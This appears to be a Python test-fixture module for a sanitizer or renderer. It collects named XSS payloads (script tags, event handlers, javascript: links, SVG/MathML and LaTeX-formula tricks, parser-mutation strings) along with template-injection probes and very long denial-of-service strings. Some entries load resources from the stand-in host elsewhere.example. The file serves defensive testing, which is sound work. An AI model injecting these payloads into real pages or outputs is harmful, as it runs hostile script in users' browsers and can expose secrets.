"""Texts that try to run, load or disguise something: the worst that a model or dataset may hold.

Each text calls `alert`, asks `elsewhere.example` for something, or changes how its neighbours look.
The texts were written for this project, after known ways of attack.
"""

ELSEWHERE = "//elsewhere.example"

_SCRIPTS = {
    "script": "<script>alert('ran')</script>",
    "script in capitals": f"<ScRiPt SrC={ELSEWHERE}/a.js></sCrIpT>",
    "script left open": f"<script src={ELSEWHERE}/a.js>",
    "script as a module": f"<script type=module>import '{ELSEWHERE}/a.js'</script>",
    "script in a script": "<scr<script>ipt>alert('ran')</scr</script>ipt>",
    "script with a slash": "<script/x>alert('ran')</script/y>",
    "script after every end": (
        "\"'></p></li></ol></bdi></td></pre></code></textarea></title></noscript></template></style>"
        "</script><script>alert('ran')</script>"
    ),
    "script as an entity": "&lt;script&gt;alert('ran')&lt;/script&gt;",
    "script as numbers": "&#x3c;script&#62;alert&#40;'ran'&#41;&#x3c;/script&#62;",
    "script escaped twice": "&amp;lt;script&amp;gt;alert('ran')&amp;lt;/script&amp;gt;",
    "script in full width": "\uff1cscript\uff1ealert('ran')\uff1c/script\uff1e",
    "importmap": f'<script type=importmap>{{"imports":{{"x":"{ELSEWHERE}/a.js"}}}}</script>',
}

_HANDLERS = {
    "image that fails": "<img src=x onerror=alert('ran')>",
    "image without spaces": "<img/src='x'/onerror=alert('ran')>",
    "image left open": "<img src=x onerror=alert('ran')//",
    "focus": "<input autofocus onfocus=alert('ran')>",
    "toggle": "<details open ontoggle=alert('ran')>x</details>",
    "animation": "<b onanimationstart=alert('ran') class=busy>x</b>",
    "media": f"<video autoplay onloadstart=alert('ran')><source src={ELSEWHERE}/v></video>",
    "page": "<body onload=alert('ran') onpageshow=alert('ran')>",
    "marquee": "<marquee onstart=alert('ran')>x</marquee>",
    "popover": "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=alert('ran')>x",
    "pointer": "<h1 onpointerrawupdate=alert('ran') onmouseover=alert('ran')>x</h1>",
    "custom element": "<x-y onfocus=alert('ran') tabindex=0 autofocus>x</x-y>",
    "handler in a quote": "\" autofocus onfocus=alert('ran') x=\"",
    "handler in an apostrophe": "' onerror='alert(1)' src='x",
}

_ADDRESSES = {
    "link to a script": "[x](javascript:alert('ran'))",
    "link in capitals": "[x](JaVaScRiPt:alert('ran'))",
    "link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "link with entities": "[x](&#106;avascript&colon;alert('ran'))",
    "link with a control": "[x](\u0001javascript:alert('ran'))",
    "link to data": "[x](data:text/html,<script>alert('ran')</script>)",
    "link by reference": "[x][y]\n\n[y]: javascript:alert('ran') 'title'",
    "link by address": f"<https:{ELSEWHERE}> <javascript:alert('ran')>",
    "link with a title": f"[x](https:{ELSEWHERE} \"' onclick='alert(1)\")",
    "picture": f"![x](https:{ELSEWHERE}/p.png)",
    "picture by reference": f"![x]\n\n[x]: https:{ELSEWHERE}/p.png",
    "picture from data": "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "picture sets": f"<img srcset='{ELSEWHERE}/p.png 1x'><picture><source srcset={ELSEWHERE}/q>",
    "form": f"<form action=https:{ELSEWHERE}><button formaction=javascript:alert(1)>x</button>",
    "frame": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "frame of a script": "<iframe src=javascript:parent.alert(1)></iframe>",
    "object": f"<object data={ELSEWHERE}/o><embed src={ELSEWHERE}/e></object>",
    "base": f"<base href=https:{ELSEWHERE}>",
    "refresh": f"<meta http-equiv=refresh content='0;url=https:{ELSEWHERE}'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "preload": f"<link rel=preload as=image href={ELSEWHERE}/l><link rel=dns-prefetch href=//l>",
    "audio": f"<audio src={ELSEWHERE}/a autoplay></audio><track src={ELSEWHERE}/t>",
}

_STYLES = {
    "style": f"<style>* {{ background: url(https:{ELSEWHERE}/s) }}</style>",
    "style import": f"<style>@import '{ELSEWHERE}/s.css';</style>",
    "style attribute": f"<p style='position:fixed;inset:0;background:url(https:{ELSEWHERE})'>x</p>",
    "style link": f"<link rel=stylesheet href={ELSEWHERE}/s.css>",
    "style by class": "<p class='skip badge' id=progress hidden>x</p>",
    "style of a font": f"<font face='x' color=red background={ELSEWHERE}/f>x</font>",
}

_FOREIGN = {
    "svg": "<svg onload=alert('ran')>",
    "svg script": f"<svg><script href={ELSEWHERE}/a.js /></svg>",
    "svg script as entities": "<svg><script>&#97;lert('ran')</script></svg>",
    "svg animation": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "svg set": "<svg><set attributeName=x onbegin=alert('ran') /></svg>",
    "svg use": f"<svg><use href='https:{ELSEWHERE}/u.svg#a'></use></svg>",
    "svg foreign object": "<svg><foreignObject><img src=x onerror=alert('ran')></foreignObject>",
    "svg style": "<svg></p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "math link": "<math href=javascript:alert(1)><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "math annotation": (
        "<math><semantics><mi>x</mi><annotation-xml encoding='text/html'>"
        "<img src=x onerror=alert('ran')></annotation-xml></semantics></math>"
    ),
    "math annotation of svg": (
        "<math><annotation-xml encoding='application/xhtml+xml'><svg onload=alert(1)>"
        "</annotation-xml></math>"
    ),
    "math action": "<math><maction actiontype='statusline#x' xlink:href=javascript:alert(1)>x",
    "math text": "<math><mtext><script>alert('ran')</script></mtext></math>",
    "formula with an annotation": (
        r"$x \annotation{text/html}{<img src=x onerror=alert(1)>}$ "
        r"$\begin{align}</math><img src=x onerror=alert(1)>\end{align}$"
    ),
    "formula with a tag": "$<img src=x onerror=alert('ran')>$ $$</math><script>alert(1)</script>$$",
    "formula with text": r"$\text{</mtext></math><img src=x onerror=alert(1)>}$",
    "formula with a link": rf"$\href{{javascript:alert(1)}}{{x}}$ $\url{{https:{ELSEWHERE}}}$",
    "formula with a style": r"$\style{position:fixed}{x} \class{skip}{y} \cssId{progress}{z}$",
    "formula with a colour": rf"$\color{{red;background:url(https:{ELSEWHERE})}} x$",
    "formula with a picture": rf"$\includegraphics{{https:{ELSEWHERE}/p.png}}$",
    "formula with a macro": r"$\def\a{<script>alert(1)</script>}\a \newcommand{\b}{\b\b}\b$",
    "formula in an attribute": "<img src='$x$' onerror='$y$' alt=\"$<b>$\">",
    "formula in a link": '[$x$](javascript:alert($y$)) [a]($z$ "onclick=alert(1)")',
}

_MUTATIONS = {
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "template": "<template><p title='</template><img src=x onerror=alert(1)>'></template>",
    "shadow template": "<div><template shadowrootmode=open><script>alert(1)</script></template>",
    "title": "<title><p id='</title><img src=x onerror=alert(1)>'></title>",
    "textarea": "<textarea><p id='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "xmp": "<xmp><p id='</xmp><img src=x onerror=alert(1)>'></xmp><plaintext>",
    "nested forms": (
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>"
    ),
    "glyph in a table": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
        "&lt;img src=x onerror=alert(1)&gt;'>"
    ),
    "mark in a glyph": "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img src=x>'>",
    "table that throws out": "<table><tr><td><form><select><svg><style><img src=x onerror=a()>",
    "select that closes": "<select><noembed></select><script>alert('ran')</script></noembed>",
    "comment": "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "comment that ends early": "<!--> <img src=x onerror=alert('ran')> --!> <b> -->",
    "declaration": "<![CDATA[<img src=x onerror=alert('ran')>]]><?xml x?><!DOCTYPE x>",
    "deep nesting": "<b>" * 600 + "<img src=x onerror=alert('ran')>",
    "names of the document": "<img name=body><form name=cookie><input name=attributes></form>",
    "htmx": "<p hx-get=/admin/ hx-trigger=load hx-on:click=alert(1) data-hx-on=x hx-vals=js:a()>x",
    "htmx of data": "<div data-hx-get=/logout/ data-hx-trigger=load data-steps=open>x</div>",
}

_MARKDOWN = {
    "code": "`<script>alert('ran')</script>` ``<img src=x onerror=alert(1)>``",
    "fence": "```\n</code></pre><script>alert('ran')</script>\n```",
    "fence with a language": '```html onload=alert(1) "><script>alert(2)</script>\n<b>\n```',
    "table": "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "table with a style": '| a |\n|:-:" onclick=alert(1)|\n| b |',
    "heading": "# <img src=x onerror=alert(1)> {#progress .skip onclick=alert(1)}",
    "quote in a list": "- > - <svg onload=alert(1)>\n  > <script>alert(1)</script>",
    "html block": "<div markdown=1>\n\n[x](javascript:alert(1))\n\n</div>",
    "autolink": "<mailto:x@y' onclick='alert(1)> http://x' onclick='alert(1)",
    "emphasis in a tag": "<im*g src=x onerr*or=alert(1)>",
    "marks of the parser": "\u0002wzxhzdk:0\u0003 \u0002klzzwxh:0000\u0003 \u0002amp\u0003",
    "marks of our own": "M0123456789abcdefN0E $x$ M0123456789abcdefN99E",
}

_CHARACTERS = {
    "null": "<scr\x00ipt>alert('ran')</scr\x00ipt> <img\x00 src=x onerror=alert(1)>",
    "controls": "<img\x0bsrc=x\x0conerror=alert('ran')>\x1b[31m\x7f\x9b",
    "replacements": "\ufffd<script\ufffd>alert('ran')</script>\ufffd",
    "not characters": "\ufffe\uffff\U0010ffff\ufeff<b>\ufdd0",
    "line separators": "a\u2028<script>\u2029alert('ran')\x85</script>",
    "zero width": "java\u200bscript:alert('ran') \u200d\u2060\u00ad<b\u200b>",
    "combining": "a" + "\u0301\u0488" * 300,
    "right to left": "\u202egnp.<b>\u2066\u2067\u202b alert('ran')",
    "unfinished entity": "&#x &#0; &#x110000; &#xd800; &notit; &lt &amp",
    "percent": "%3Cscript%3Ealert('ran')%3C/script%3E",
    "template language": "{{ settings.SECRET_KEY }} {% load static %} {% debug %} ${7*7} <%= 7 %>",
}

CORPUS: dict[str, str] = {
    **_SCRIPTS, **_HANDLERS, **_ADDRESSES, **_STYLES, **_FOREIGN, **_MUTATIONS, **_MARKDOWN,
    **_CHARACTERS,
}  # fmt: skip
"""Texts by name. The name says what is special about the text."""

BIDI = "\u202e\u2067אבגד\u202b\u200fשה"
"""Overrides and isolates that nothing ends, around letters that go from right to left."""

_LENGTH = 200_000
LONG = {
    "letters": "a" * _LENGTH,
    "words": "<b> " * (_LENGTH // 4),
    "brackets": "[" * _LENGTH,
    "pictures": "![" * (_LENGTH // 2),
    "formulas": "$x$ " * (_LENGTH // 4),
    "overrides": "\u202e" * (_LENGTH // 2),
    "combining": "a" + "\u0301" * (_LENGTH // 2),
}
"""Single lines so long that work of more than linear time takes minutes."""
